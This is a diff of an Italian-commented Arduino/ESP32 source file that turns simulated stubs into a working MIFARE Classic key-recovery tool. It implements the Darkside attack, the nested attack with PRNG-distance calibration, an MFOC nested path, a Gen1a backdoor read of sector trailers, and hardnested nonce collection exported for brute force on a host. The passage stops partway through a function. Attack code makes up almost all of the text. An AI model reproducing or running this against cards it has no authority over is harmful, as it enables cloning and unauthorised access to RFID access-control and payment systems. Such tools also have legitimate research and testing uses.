@@ -5,11 +5,21 @@
 
 #include "mfcuk_attack.h"
 #include "mfcuk_crypto.h"
+#include "mfcuk_crypto_darkside.h"
+#include "mfcuk_crypto_prng.h"
+#include "mfcuk_pipeline.h"
+#include "mfcuk_nonce.h"
+#include "mfcuk_keygen.h"
+#include "mfcuk_hardnested.h"
+#include "mfcuk_arena.h"
 #include "mfcuk_types.h"
 #include "mfcuk_utils.h"
+#include "mfoc.h"
 #include "mfcuk.h"     // Include per accedere a mfcuk_update_progress e altre funzioni
 #include "rfid.h"
+#include "rfid_session.h"
 #include <Arduino.h>
+#include <LittleFS.h>
 #include <Adafruit_SSD1306.h>
 #include <input.h>
 
@@ -17,318 +27,612 @@
 extern Adafruit_SSD1306 display;
 extern const int buttonPin_RST;
 
+// Darkside: round al massimo, tentativi per round e {nr} del primo round
+#define MFCUK_DARKSIDE_ROUNDS   12
+#define MFCUK_DARKSIDE_PROBES   1024
+#define MFCUK_DARKSIDE_NR       0x12345600UL
+
+// Nested: nonce acquisiti al massimo (calibrazione compresa), sonde sul
+// bersaglio, chiavi candidate tenute tra una sonda e l'altra e nt stimati per sonda
+#define MFCUK_NESTED_NONCES       200
+#define MFCUK_NESTED_PROBES       8
+#define MFCUK_NESTED_KEYS         256
+#define MFCUK_NESTED_MAX_GUESSES  41
+
+// Candidati nested sotto cui conviene smettere di raccogliere e verificare in aria
+#define MFCUK_NESTED_VERIFY_LIMIT 4
+
+// Candidati verificati sulla carta a fine raccolta
+#define MFCUK_VERIFY_MAX        64
+
+// Nonce tra due distanze e criterio di convergenza delle distanze
+#define MFCUK_NONCE_TARGET          30
+#define MFCUK_DISTANCE_TOLERANCE    20
+#define MFCUK_DISTANCE_MIN          10
+
+// Acquisizioni fallite di fila prima di considerare persa la carta
+#define MFCUK_COLLECT_MAX_MISSES    8
+
+// NonceRecord.flags: sonda sul settore bersaglio (altrimenti calibrazione)
+#define MFCUK_REC_TARGET            0x01
+
+// Hardnested: nonce massimi e nonce tra due stime
+#define MFCUK_HARDNESTED_NONCES    4096
+#define MFCUK_HARDNESTED_REPORT    64
+
+// Stato condiviso dai task della pipeline di raccolta
+typedef struct {
+    AttackPipeline* pipe;
+    uint8_t mode;               // ATTACK_MODE_DARKSIDE o ATTACK_MODE_NESTED
+    uint32_t uid;               // UID dell'autenticazione
+    uint8_t block;              // Trailer del settore bersaglio
+    uint8_t key_type;
+    uint64_t known;             // Chiave nota (nested)
+    uint8_t known_block;
+    uint8_t known_key_type;
+    uint32_t calibrated;        // Nested: finestra delle distanze pronta, si passa al bersaglio
+    // Produttore (core radio)
+    NonceAcq* acq;
+    uint32_t misses;            // Acquisizioni fallite di fila
+    volatile uint32_t produced;
+    uint32_t targets;           // Sonde nested sul bersaglio
+    DarksideRun runs[MFCUK_DARKSIDE_ROUNDS];    // Il record k del ring è il round k
+    // Consumatore (core di calcolo)
+    uint32_t consumed;
+    DarksideSolver ds;
+    NonceDistanceTracker tracker;
+    uint32_t distances[MFCUK_NONCE_TARGET];
+    uint32_t lo;                // Finestra delle distanze nested
+    uint32_t hi;
+    NonceNested probes[MFCUK_NESTED_PROBES];
+    uint8_t num_probes;
+    uint32_t discarded;         // Sonde fuori finestra (avrebbero scartato tutti i candidati)
+    uint64_t keys[MFCUK_NESTED_KEYS];
+    uint32_t num_keys;
+    uint32_t dropped;           // Chiavi oltre MFCUK_NESTED_KEYS
+} MfcukCollectCtx;
+
+// Arena per attacco: contesto della raccolta e candidati da verificare (fuori dallo stack del loop)
+#define MFCUK_ATTACK_ARENA  (sizeof(MfcukCollectCtx) + MFCUK_VERIFY_MAX * sizeof(uint64_t) + 4 * MFCUK_ARENA_ALIGN)
+
 /**
- * Implementa l'attacco Darkside per recuperare una chiave
- * NOTA: Spostata all'implementazione nel file mfcuk_attack.cpp per evitare duplicazioni
+ * Raccolta con il solver in pipeline e verifica dei candidati rimasti
+ * sulla carta della sessione aperta
  */
-bool mfcuk_darkside_attack(MfcukConfig* config, uint8_t* key) {
-    uint32_t uid = 0;
-    uint32_t nonces[100];
-    int num_nonces = 0;
-    uint64_t recovered_key = 0;
-    bool success = false;
-    MifareKey found_key;
-
-    // Recupera l'UID della carta
-    if (!rfid_get_uid(&uid)) {
+static bool mfcuk_solver_attack(MfcukConfig* config, uint8_t mode, uint8_t* key) {
+    CardSession* session = rfid_session_current();
+    uint64_t* keys;
+    uint32_t num_keys;
+    bool success;
+    MfcukArena arena;
+    NonceAcq acq;
+    
+    if (session == NULL || !nonce_pn532_begin(&acq, session)) {
+        Serial.println("[MFCUK] Nessuna carta pronta per l'acquisizione dei nonce");
         return false;
     }
-    
-    // Raccogli i nonce per l'attacco darkside
-    success = mfcuk_collect_nonces(
-        uid, 
-        get_block_number_by_sector(config->target_sector, 0),
-        NULL, // Non serve chiave nota per darkside
-        config->target_key_type,
-        nonces, 
-        100, 
-        &num_nonces
-    );
-    
-    if (!success || num_nonces < 10) {
+    if (!mfcuk_arena_init_heap(&arena, MFCUK_ATTACK_ARENA, MFCUK_ATTACK_ARENA)) {
+        nonce_pn532_end(session);
+        Serial.println("[MFCUK] Memoria insufficiente per l'attacco");
         return false;
     }
+    keys = MFCUK_ARENA_NEW(&arena, uint64_t, MFCUK_VERIFY_MAX);
     
-    // Recupera la chiave usando l'attacco darkside
-    success = mfcuk_recover_key_darkside(uid, nonces, num_nonces, &found_key);
-    
-    if (success) {
-        // Copia la chiave trovata nel buffer di output
-        memcpy(key, found_key.bytes, MIFARE_KEY_SIZE);
-    }
+    num_keys = mfcuk_collect_nonces(config, mode, &acq, &arena, keys, MFCUK_VERIFY_MAX);
+    success = num_keys > 0 && mfcuk_verify_candidates(config, &acq, keys, num_keys, key);
     
+    nonce_pn532_end(session);
+    mfcuk_arena_report(&arena, "MFCUK");
+    mfcuk_arena_free(&arena);
     return success;
 }
 
 /**
- * Implementa l'attacco Nested per recuperare una chiave
- * NOTA: Spostata all'implementazione nel file mfcuk_attack.cpp per evitare duplicazioni
+ * Attacco Darkside: round di parità/NACK finché il solver lascia pochi
+ * candidati, poi verifica sulla carta
+ */
+bool mfcuk_darkside_attack(MfcukConfig* config, uint8_t* key) {
+    return mfcuk_solver_attack(config, ATTACK_MODE_DARKSIDE, key);
+}
+
+/**
+ * Attacco Nested: distanze dal settore noto, sonde {nt} sul bersaglio e
+ * recupero dello stato finché restano pochi candidati, poi verifica sulla carta
  */
 bool mfcuk_nested_attack(MfcukConfig* config, uint8_t* key) {
-    uint32_t uid = 0;
-    uint32_t distances[100];
-    int numDistances = 0;
-    uint64_t recovered_key = 0;
-    bool success = false;
-    int iteration = 0;
-    int progress = 0;
-    MifareKey found_key;
-    
-    // Recupera l'UID della carta
-    if (!rfid_get_uid(&uid)) {
-        return false;
-    }
+    return mfcuk_solver_attack(config, ATTACK_MODE_NESTED, key);
+}
+
+/**
+ * Produttore: un round Darkside completo oppure un'autenticazione nested,
+ * prima sul settore noto (calibrazione) e poi sul bersaglio
+ */
+static bool mfcuk_collect_produce(void* ctx, NonceRecord* rec) {
+    MfcukCollectCtx* c = (MfcukCollectCtx*)ctx;
     
-    // Raccolta distanze tra nonce
-    uint32_t nonces[200];
-    int num_nonces = 0;
-    
-    success = mfcuk_collect_nonces(
-        uid, 
-        get_block_number_by_sector(config->target_sector, 0),
-        &config->known_key, 
-        config->known_key_type,
-        nonces, 
-        200, 
-        &num_nonces
-    );
-    
-    if (!success || num_nonces < 20) {
-        return false;
+    memset(rec, 0, sizeof(*rec));
+    if (c->mode == ATTACK_MODE_DARKSIDE) {
+        DarksideRun* run;
+        
+        if (c->produced >= MFCUK_DARKSIDE_ROUNDS) return false;
+        run = &c->runs[c->produced];
+        
+        // {nr} diverso a ogni round: il reset del campo ripete nt, le osservazioni cambiano
+        while (!nonce_darkside_run(c->acq, c->block, c->key_type, MFCUK_DARKSIDE_NR + c->produced * 0x100, 0,
+                                   MFCUK_DARKSIDE_PROBES, run)) {
+            if (++c->misses >= MFCUK_COLLECT_MAX_MISSES || mfcuk_pipeline_stopping(c->pipe)) return false;
+        }
+        rec->nt = run->nt;
+        rec->sector = c->block / MIFARE_BLOCKS_PER_SECTOR;
+    } else {
+        bool target = __atomic_load_n(&c->calibrated, __ATOMIC_ACQUIRE) != 0;
+        uint8_t block = target ? c->block : c->known_block;
+        uint8_t key_type = target ? c->key_type : c->known_key_type;
+        NonceNested n;
+        int r;
+        
+        if (c->produced >= MFCUK_NESTED_NONCES || c->targets >= MFCUK_NESTED_PROBES) return false;
+        
+        while ((r = nonce_nested(c->acq, c->known, c->known_block, c->known_key_type, block, key_type, false,
+                                 &n)) != 1) {
+            // Chiave nota rifiutata: inutile insistere
+            if (r == 0) return false;
+            if (++c->misses >= MFCUK_COLLECT_MAX_MISSES || mfcuk_pipeline_stopping(c->pipe)) return false;
+        }
+        rec->nt = n.nt;
+        rec->nt_enc = n.nt_enc;
+        rec->par = n.par;
+        rec->sector = block / MIFARE_BLOCKS_PER_SECTOR;
+        if (target) {
+            rec->flags = MFCUK_REC_TARGET;
+            c->targets++;
+        }
     }
+    c->misses = 0;
+    rec->time_ms = millis();
+    rec->key_type = c->key_type;
     
-    // Calcola le distanze tra nonce consecutivi
-    for (int i = 0; i < num_nonces - 1 && numDistances < 100; i++) {
-        distances[numDistances++] = nonces[i+1] - nonces[i];
-    }
+    c->produced++;
+    return true;
+}
+
+/**
+ * Finestra delle distanze nested dalle statistiche della calibrazione;
+ * da qui il produttore acquisisce sul bersaglio
+ */
+static void mfcuk_nested_window(MfcukCollectCtx* c) {
+    uint32_t tol;
     
-    // Recupera la chiave usando l'attacco nested
-    success = mfcuk_recover_key_nested(
-        uid,
-        &config->known_key,
-        config->target_sector,
-        config->target_key_type,
-        distances,
-        numDistances,
-        &found_key
-    );
-    
-    if (success) {
-        // Copia la chiave trovata nel buffer di output
-        memcpy(key, found_key.bytes, MIFARE_KEY_SIZE);
+    mfcuk_distance_finish(&c->tracker);
+    tol = c->tracker.tolerance < MFCUK_NESTED_MAX_GUESSES / 2 ? c->tracker.tolerance : MFCUK_NESTED_MAX_GUESSES / 2;
+    c->lo = c->tracker.median > tol ? c->tracker.median - tol : 0;
+    c->hi = c->tracker.median + tol;
+    
+    Serial.printf("[MFCUK] Distanze nested: %u raccolte, mediana %u, finestra %u..%u\n",
+                  (unsigned)c->tracker.count, (unsigned)c->tracker.median, (unsigned)c->lo, (unsigned)c->hi);
+    __atomic_store_n(&c->calibrated, 1, __ATOMIC_RELEASE);
+}
+
+/**
+ * Ultimo stadio della catena di recupero: tiene le chiavi che hanno
+ * decifrato la sonda di controllo
+ */
+static int mfcuk_nested_keep(void* ctx, uint64_t key) {
+    MfcukCollectCtx* c = (MfcukCollectCtx*)ctx;
+    
+    if (c->num_keys < MFCUK_NESTED_KEYS) {
+        c->keys[c->num_keys++] = key;
+    } else {
+        c->dropped++;
+    }
+    return 0;
+}
+
+/**
+ * Recupero dello stato sugli nt stimati della sonda che superano il filtro
+ * di parità; restano le chiavi che decifrano anche la sonda di controllo
+ */
+static void mfcuk_nested_recover(MfcukCollectCtx* c, const NonceNested* probe, const NonceNested* check_probe) {
+    uint32_t guesses[MFCUK_NESTED_MAX_GUESSES];
+    uint32_t num_guesses = nonce_nested_guesses(probe, c->lo, c->hi, guesses, MFCUK_NESTED_MAX_GUESSES);
+    KeyVerifyStage keep;
+    KeyNestedStage check;
+    Crypto1RecoveryStats stats;
+    
+    keygen_verify_init(&keep, mfcuk_nested_keep, c, NULL);
+    keygen_nested_init(&check, c->uid, check_probe, 1, c->lo, c->hi, &keep.base);
+    for (uint32_t i = 0; i < num_guesses && !mfcuk_pipeline_stopping(c->pipe); i++) {
+        keygen_from_nested(c->uid, guesses[i], probe->nt_enc, &check.base, &stats);
     }
+    keygen_flush(&check.base);
     
-    return success;
+    Serial.printf("[MFCUK] Recupero nested: %u nt stimati, %u chiavi scartate dalla sonda di controllo, "
+                  "%u candidati\n", (unsigned)num_guesses, (unsigned)check.rejected, (unsigned)c->num_keys);
 }
 
 /**
- * Raccoglie i nonce dal lettore durante gli attacchi
- * Simulazione di una funzione che recupererebbe i nonce reali dalla carta
+ * Consumatore nested: senza candidati recupera le chiavi dell'ultima sonda
+ * che decifrano anche la precedente, altrimenti tiene solo i candidati che
+ * decifrano l'ultima. Una sonda che li scarterebbe tutti è fuori finestra
+ * e viene ignorata
+ * @return Candidati rimasti (MFCUK_PIPELINE_OPEN finché non ce ne sono)
  */
-bool mfcuk_collect_nonces(uint32_t uid, uint8_t block, MifareKey* known_key, uint8_t key_type, 
-                          uint32_t* nonces, int max_nonces, int* num_collected) {
-    int i;
-    uint32_t last_nonce = 0;
-    *num_collected = 0;
-    
-    // Simulazione di raccolta nonce
-    // In un'implementazione reale, questa funzione comunicherebbe con la carta
-    // e raccoglierebbe i nonce reali durante tentativi di autenticazione
-    
-    for (i = 0; i < max_nonces; i++) {
-        // Controllo per interruzione utente
-        if (digitalRead(buttonPin_RST) == LOW) {
-            return false;
+static uint32_t mfcuk_nested_add_probe(MfcukCollectCtx* c, const NonceRecord* rec) {
+    NonceNested* n = &c->probes[c->num_probes++];
+    uint32_t kept = 0;
+    
+    n->nt = rec->nt;
+    n->nt_enc = rec->nt_enc;
+    n->par = rec->par;
+    n->nt2 = 0;
+    n->distance = PRNG_DISTANCE_INVALID;
+    if (c->num_probes < 2) return MFCUK_PIPELINE_OPEN;
+    
+    if (c->num_keys == 0) {
+        mfcuk_nested_recover(c, n, n - 1);
+    } else {
+        for (uint32_t base = 0; base < c->num_keys; base += CRYPTO1_BS_LANES) {
+            int count = c->num_keys - base < (uint32_t)CRYPTO1_BS_LANES ? c->num_keys - base : CRYPTO1_BS_LANES;
+            crypto1_bs_t alive = nonce_nested_keys_ok(n, 1, c->uid, c->keys + base, count, c->lo, c->hi);
+            
+            for (int lane = 0; lane < count; lane++) {
+                if (alive & ((crypto1_bs_t)1 << lane)) c->keys[kept++] = c->keys[base + lane];
+            }
         }
-        
-        // Simulazione generazione nonce incrementale con un po' di variazione casuale
-        uint32_t new_nonce;
-        if (i == 0) {
-            new_nonce = random(0xFFFFFFFF);
+        if (kept > 0) {
+            c->num_keys = kept;
         } else {
-            new_nonce = last_nonce + random(100, 1000);
-        }
-        
-        nonces[*num_collected] = new_nonce;
-        last_nonce = new_nonce;
-        (*num_collected)++;
-        
-        // Simulazione del tempo necessario per ottenere un nonce
-        delay(10);
-        
-        // Per una simulazione più realistica, interrompiamo dopo un certo numero di nonce
-        if (*num_collected >= 30) {
-            return true;
+            c->discarded++;
         }
+        Serial.printf("[MFCUK] Sonda nested %u: %s, %u candidati\n", c->num_probes,
+                      kept > 0 ? "candidati filtrati" : "fuori finestra, ignorata", (unsigned)c->num_keys);
     }
     
-    return (*num_collected > 0);
+    return c->num_keys > 0 ? c->num_keys : MFCUK_PIPELINE_OPEN;
 }
 
 /**
- * Recupera la chiave del settore target dall'attacco Darkside.
- * Implementazione di base dell'attacco Darkside
+ * Consumatore: il solver riceve ogni round o sonda appena acquisito; la
+ * pipeline si ferma quando i candidati rimasti scendono sotto la soglia
+ * del modo (darkside_solver_ready per il Darkside)
+ * @return Candidati rimasti, MFCUK_PIPELINE_OPEN finché non ce ne sono
  */
-bool mfcuk_recover_key_darkside(uint32_t uid, uint32_t* nonces, int num_nonces, MifareKey* key) {
-    // Implementazione semplificata dell'attacco Darkside
-    Serial.println("[MFCUK] Analisi dei nonces per recupero chiave Darkside");
+static uint32_t mfcuk_collect_consume(void* ctx, const NonceRecord* rec) {
+    MfcukCollectCtx* c = (MfcukCollectCtx*)ctx;
     
-    // Simula processo di crack della chiave con un po' di attesa
-    for (int i = 0; i < 10; i++) {
-        delay(200);
+    if (c->mode == ATTACK_MODE_DARKSIDE) {
+        uint32_t remaining = darkside_solver_add_run(&c->ds, c->uid, &c->runs[c->consumed++]);
         
-        // Verifica interruzione utente
-        if (digitalRead(buttonPin_RST) == LOW) {
-            return false;
-        }
-        
-        // Aggiorna il display con il progresso
-        char msg[32];
-        sprintf(msg, "Crack %d%%", (i+1)*10);
-        mfcuk_update_progress(30 + (i+1)*7, msg);
+        return remaining > 0 ? remaining : MFCUK_PIPELINE_OPEN;
+    }
+    
+    if (rec->flags & MFCUK_REC_TARGET) return mfcuk_nested_add_probe(c, rec);
+    
+    // Calibrazione: {nt} sul settore noto si decifra, la coppia dà la distanza
+    if (!c->calibrated &&
+        mfcuk_distance_add_pair(&c->tracker, rec->nt, nonce_decrypt_nt(c->known, c->uid, rec->nt_enc))) {
+        mfcuk_nested_window(c);
+    }
+    return MFCUK_PIPELINE_OPEN;
+}
+
+/**
+ * Task chiamante: stato sul display e interruzione utente
+ */
+static void mfcuk_collect_idle(void* ctx) {
+    MfcukCollectCtx* c = (MfcukCollectCtx*)ctx;
+    uint32_t produced = c->produced;
+    char status[24];
+    
+    if (digitalRead(buttonPin_RST) == LOW) {
+        mfcuk_pipeline_cancel(c->pipe);
+        return;
     }
     
-    // Generiamo una chiave simulata (in una implementazione reale, questa sarebbe la vera chiave trovata)
-    memset(key->bytes, 0, MIFARE_KEY_SIZE);
-    for (int i = 0; i < MIFARE_KEY_SIZE; i++) {
-        key->bytes[i] = 0xA0 + i;
+    if (c->mode == ATTACK_MODE_DARKSIDE) {
+        snprintf(status, sizeof(status), "Round %u/%u", (unsigned)produced, MFCUK_DARKSIDE_ROUNDS);
+        mfcuk_update_progress(10 + produced * 80 / MFCUK_DARKSIDE_ROUNDS, status);
+    } else {
+        snprintf(status, sizeof(status), "Nonce nested %u", (unsigned)produced);
+        mfcuk_update_progress(10 + produced * 80 / MFCUK_NESTED_NONCES, status);
+    }
+}
+
+/**
+ * Nested sul percorso MFOC (distanze dal settore noto, filtro di parità,
+ * sonde di verifica e intersezione) sulla sessione aperta da mfcuk_run:
+ * è l'attacco scelto per le carte con PRNG debole e una chiave nota
+ */
+bool mfcuk_mfoc_nested_attack(MfcukConfig* config, uint8_t* key) {
+    CardSession* session = rfid_session_current();
+    MfocConfig mfoc_config;
+    MfocCard card;
+    MfocSector* target;
+    
+    if (session == NULL) {
+        Serial.println("[MFCUK] Nessuna carta pronta per il nested");
+        return false;
     }
     
+    memset(&mfoc_config, 0, sizeof(mfoc_config));
+    mfoc_config.known_key_type = config->known_key_type;
+    mfoc_config.known_key = config->known_key;
+    mfoc_config.exploit_sector = config->known_sector;
+    mfoc_config.target_sector = config->target_sector;
+    mfoc_config.target_key_type = config->target_key_type;
+    mfoc_config.num_probes = DEFAULT_PROBES_NR;
+    mfoc_config.sets = DEFAULT_SETS_NR;
+    mfoc_config.tolerance = DEFAULT_TOLERANCE;
+    
+    memset(&card, 0, sizeof(card));
+    card.uid = rfid_session_uid32(session);
+    card.num_sectors = session->num_sectors;
+    if (!mfoc_run(&mfoc_config, &card, session)) return false;
+    
+    target = &card.sectors[config->target_sector];
+    memcpy(key, config->target_key_type == KEY_A ? target->KeyA.bytes : target->KeyB.bytes, MIFARE_KEY_SIZE);
     return true;
 }
 
 /**
- * Recupera la chiave usando l'attacco Nested.
- * Implementazione di base dell'attacco Nested
+ * Legge la chiave dal trailer del settore target di una carta magica Gen1a:
+ * dopo il comando di backdoor la carta risponde alle letture senza
+ * autenticazione e il trailer contiene le chiavi vere
  */
-bool mfcuk_recover_key_nested(uint32_t uid, MifareKey* known_key, uint8_t target_sector, 
-                              uint8_t target_key_type, uint32_t* distances, int num_distances,
-                              MifareKey* recovered_key) {
-    // Implementazione semplificata dell'attacco Nested
-    Serial.println("[MFCUK] Analisi delle distanze per recupero chiave Nested");
-    
-    // Simula processo di crack della chiave con un po' di attesa
-    for (int i = 0; i < 10; i++) {
-        delay(300);
-        
-        // Verifica interruzione utente
-        if (digitalRead(buttonPin_RST) == LOW) {
-            return false;
-        }
-        
-        // Aggiorna il display con il progresso
-        char msg[32];
-        sprintf(msg, "Crack %d%%", (i+1)*10);
-        mfcuk_update_progress(30 + (i+1)*7, msg);
+bool mfcuk_backdoor_attack(MfcukConfig* config, uint8_t* key) {
+    CardSession* session = rfid_session_current();
+    NonceAcq acq;
+    uint8_t trailer[16];
+    bool success;
+    
+    if (session == NULL || !nonce_pn532_begin(&acq, session)) {
+        Serial.println("[MFCUK] Nessuna carta pronta per la backdoor");
+        return false;
     }
     
-    // Generiamo una chiave simulata (in una implementazione reale, questa sarebbe la vera chiave trovata)
-    memset(recovered_key->bytes, 0, MIFARE_KEY_SIZE);
-    for (int i = 0; i < MIFARE_KEY_SIZE; i++) {
-        recovered_key->bytes[i] = 0x10 + i;
+    success = nonce_gen1a_unlock(&acq) &&
+              nonce_gen1a_read(&acq, get_block_number_by_sector(config->target_sector, 3), trailer);
+    nonce_pn532_end(session);
+    
+    if (!success) {
+        Serial.println("[MFCUK] Backdoor Gen1a non disponibile");
+        return false;
     }
     
+    // Trailer: chiave A (byte 0..5), access bits (6..9), chiave B (10..15)
+    memcpy(key, config->target_key_type == KEY_A ? trailer : trailer + 10, MIFARE_KEY_SIZE);
     return true;
 }
 
 /**
- * Funzione di supporto per il recupero chiavi
- * Versione legacy mantenuta per compatibilità
+ * Nonce ancora attesi per vedere tutti i primi byte (collezionista di
+ * figurine: 256 * H(mancanti))
  */
-bool mfcuk_recover_key(uint8_t* nt, uint8_t* nr, uint8_t* ar, uint8_t* key) {
-    Serial.println("[DEBUG] Inizio funzione mfcuk_recover_key");
+static uint32_t mfcuk_hardnested_remaining(const Hardnested* hn) {
+    float h = 0.0f;
     
-    // Verifico che tutti i puntatori passati siano validi
-    if (nt == nullptr || nr == nullptr || ar == nullptr || key == nullptr) {
-        Serial.println("[DEBUG] Errore: puntatori non validi");
+    for (uint32_t i = 1; i <= (uint32_t)(HN_FIRST_BYTES - hn->seen_count); i++) h += 1.0f / i;
+    return (uint32_t)(HN_FIRST_BYTES * h);
+}
+
+/**
+ * Hardnested per le carte con PRNG rinforzato: nonce nested dalla chiave
+ * nota al bersaglio fino a vedere tutti i primi byte di {nt}, ognuno
+ * salvato nel file di lavoro su LittleFS. La forza bruta non gira mai sul
+ * dispositivo: anche lo spazio più piccolo richiede ore sull'ESP32, quindi
+ * il file di lavoro va sempre completato su host con tools/hardnested e la
+ * chiave trovata ricopiata nel file chiavi
+ * @return false: la chiave arriva solo dallo strumento su host
+ */
+bool mfcuk_hardnested_attack(MfcukConfig* config, uint8_t* key) {
+    CardSession* session = rfid_session_current();
+    uint8_t known_block = get_block_number_by_sector(config->known_sector, 3);
+    uint8_t target_block = get_block_number_by_sector(config->target_sector, 3);
+    Hardnested hn;
+    HardnestedEstimate est;
+    NonceAcq acq;
+    NonceNested n;
+    char path[32];
+    char line[HN_JOB_LINE_MAX];
+    char status[24];
+    uint64_t known = 0;
+    uint32_t start, misses = 0;
+    bool cancelled = false;
+    File job;
+    int r = 1;
+    
+    if (session == NULL) {
+        Serial.println("[MFCUK] Nessuna carta pronta per l'hardnested");
         return false;
     }
+    for (uint8_t i = 0; i < MIFARE_KEY_SIZE; i++) known = known << 8 | config->known_key.bytes[i];
     
-    // Verifico che i valori passati non siano nulli
-    bool hasZeros = true;
-    for (int i = 0; i < 4; i++) {
-        if (nt[i] != 0 || nr[i] != 0 || ar[i] != 0) {
-            hasZeros = false;
-            break;
-        }
-    }
+    // Classi delle metà dello stato: qualche secondo, una volta per avvio
+    mfcuk_update_progress(10, "Tabelle hardnested...");
+    hardnested_tables_init();
     
-    if (hasZeros) {
-        Serial.println("[DEBUG] Errore: valori nulli");
+    if (!nonce_pn532_begin(&acq, session)) {
+        Serial.println("[MFCUK] Nessuna carta pronta per l'hardnested");
         return false;
     }
+    hardnested_init(&hn, acq.uid32);
     
-    //    // Riferimento già dichiarato all'inizio del file
-    // extern const int buttonPin_RST;
-    
-    // Converto i nonce e le risposte in valori interi per crapto1
-    uint32_t nt0_int = 0, nr0_int = 0, ar0_int = 0;
-    
-    Serial.println("[DEBUG] Conversione nonce a interi");
-    nt0_int = (nt[0] << 24) | (nt[1] << 16) | (nt[2] << 8) | nt[3];
-    nr0_int = (nr[0] << 24) | (nr[1] << 16) | (nr[2] << 8) | nr[3];
-    ar0_int = (ar[0] << 24) | (ar[1] << 16) | (ar[2] << 8) | ar[3];
-    
-    Serial.print("[DEBUG] NT int: 0x");
-    Serial.println(nt0_int, HEX);
-    Serial.print("[DEBUG] NR int: 0x");
-    Serial.println(nr0_int, HEX);
-    Serial.print("[DEBUG] AR int: 0x");
-    Serial.println(ar0_int, HEX);
-    
-    // Tentativo di recuperare la chiave con crapto1
-    Crypto1State *revstate;
-    uint64_t found_key = 0;
-    bool keyFound = false;
-    
-    // Fase 1: Inizializzazione Crypto1
-    Serial.println("[DEBUG] Inizializzazione Crypto1State");
-    revstate = crypto1_create(0);
-    if (revstate != nullptr) {
-        Serial.println("[DEBUG] Inizializzazione OK");
-        
-        // Fase 2: Recupero chiave con darkside_crack
-        Serial.println("[DEBUG] Avvio crack");
-        uint64_t key_recovered = 0;
+    snprintf(path, sizeof(path), HN_JOB_PATH, config->target_sector, config->target_key_type == KEY_A ? 'A' : 'B');
+    job = LittleFS.open(path, "w");
+    if (job) {
+        hardnested_job_header(line, sizeof(line), config->target_sector, config->target_key_type);
+        job.print(line);
+    } else {
+        Serial.printf("[MFCUK] Impossibile creare %s, nonce non salvati\n", path);
+    }
+    
+    start = millis();
+    while (hn.seen_count < HN_FIRST_BYTES && hn.nonces < MFCUK_HARDNESTED_NONCES) {
+        r = nonce_nested(&acq, known, known_block, config->known_key_type, target_block,
+                         config->target_key_type, false, &n);
+        if (r == 0) break;
+        if (r < 0) {
+            if (++misses >= MFCUK_COLLECT_MAX_MISSES) break;
+            continue;
+        }
+        misses = 0;
         
-        if (darkside_crack(nt0_int, nr0_int, ar0_int, &key_recovered)) {
-            found_key = key_recovered;
-            keyFound = true;
+        hardnested_add(&hn, n.nt_enc, n.par);
+        if (job) {
+            Crypto1EncNonce rec = {hn.uid, n.nt_enc, n.par};
             
-            Serial.print("[DEBUG] Chiave trovata: 0x");
-            Serial.println((unsigned long)(found_key), HEX);
-        } else {
-            Serial.println("[DEBUG] Darkside crack fallito");
+            hardnested_job_line(line, sizeof(line), &rec);
+            job.print(line);
         }
         
-        // Fase 3: Liberazione memoria
-        crypto1_destroy(revstate);
-    } else {
-        Serial.println("[DEBUG] Errore inizializzazione Crypto1");
+        if (hn.nonces % MFCUK_HARDNESTED_REPORT == 0) {
+            uint32_t elapsed = millis() - start;
+            uint32_t left = mfcuk_hardnested_remaining(&hn);
+            
+            hardnested_estimate(&hn, &est, NULL);
+            snprintf(status, sizeof(status), "Nonce %u/%u", hn.seen_count, HN_FIRST_BYTES);
+            mfcuk_update_progress(10 + hn.seen_count * 60 / HN_FIRST_BYTES, status);
+            Serial.printf("[MFCUK] Hardnested: %u nonce, primi byte %u/%u, spazio 2^%.1f, "
+                          "mancano ~%u nonce (~%lu s)\n", (unsigned)hn.nonces, hn.seen_count, HN_FIRST_BYTES,
+                          est.log2_keys, (unsigned)left, (unsigned long)((uint64_t)left * elapsed / hn.nonces / 1000));
+        }
+        if (digitalRead(buttonPin_RST) == LOW) {
+            cancelled = true;
+            break;
+        }
     }
+    nonce_pn532_end(session);
+    nonce_acq_report(&acq, millis() - start);
+    if (job) job.close();
     
-    // Verifica se RST è stato premuto durante l'elaborazione
-    if (digitalRead(buttonPin_RST) == LOW) {
-        Serial.println("[DEBUG] RST premuto durante crack - esco");
+    if (r == 0) {
+        Serial.println("[MFCUK] Chiave nota rifiutata dalla carta");
         return false;
     }
+    hardnested_estimate(&hn, &est, NULL);
+    hardnested_report(&hn, &est);
+    if (cancelled || hn.num_check < HN_CHECK_NONCES || !job) return false;
+    
+    Serial.printf("[MFCUK] Spazio 2^%.1f: nonce esportati in %s, forza bruta su host con tools/hardnested\n",
+                  est.log2_plan, path);
+    mfcuk_update_progress(100, "Esportato per host");
+    delay(2000);
+    (void)key;
+    return false;
+}
+
+/**
+ * Raccoglie round Darkside o sonde nested dalla carta della sessione
+ * L'acquisizione (frame grezzi) e il solver girano in pipeline su core
+ * diversi; la raccolta si ferma quando restano pochi candidati
+ * @return Chiavi candidate copiate in keys (0 se la raccolta non converge)
+ */
+uint32_t mfcuk_collect_nonces(MfcukConfig* config, uint8_t mode, NonceAcq* acq, MfcukArena* arena,
+                              uint64_t* keys, uint32_t max_keys) {
+    MfcukArenaScope scope(arena);     // Il contesto serve solo alla raccolta
+    AttackPipeline pipe;
+    MfcukCollectCtx* ctx = MFCUK_ARENA_NEW(arena, MfcukCollectCtx, 1);
+    uint32_t count = 0;
+    const uint64_t* found = NULL;
+    
+    if (ctx == NULL) return 0;
+    
+    // Il chiamante resta in attesa fino alla fine dei task: il contesto vive nell'arena
+    memset(ctx, 0, sizeof(*ctx));
+    ctx->pipe = &pipe;
+    ctx->mode = mode;
+    ctx->uid = acq->uid32;
+    ctx->block = get_block_number_by_sector(config->target_sector, 3);
+    ctx->key_type = config->target_key_type;
+    ctx->known_block = get_block_number_by_sector(config->known_sector, 3);
+    ctx->known_key_type = config->known_key_type;
+    ctx->acq = acq;
+    for (uint8_t i = 0; i < MIFARE_KEY_SIZE; i++) ctx->known = ctx->known << 8 | config->known_key.bytes[i];
+    mfcuk_distance_init(&ctx->tracker, ctx->distances, MFCUK_NONCE_TARGET, MFCUK_DISTANCE_TOLERANCE,
+                        MFCUK_DISTANCE_MIN);
+    
+    if (mode == ATTACK_MODE_DARKSIDE && !darkside_solver_init(&ctx->ds)) {
+        Serial.println("[MFCUK] Memoria insufficiente per il solver Darkside");
+        return 0;
+    }
     
-    // Se la chiave è stata trovata, la convertiamo nel formato richiesto
-    if (keyFound) {
-        Serial.println("[DEBUG] Chiave recuperata!");
-        // Converti la chiave trovata in array di byte
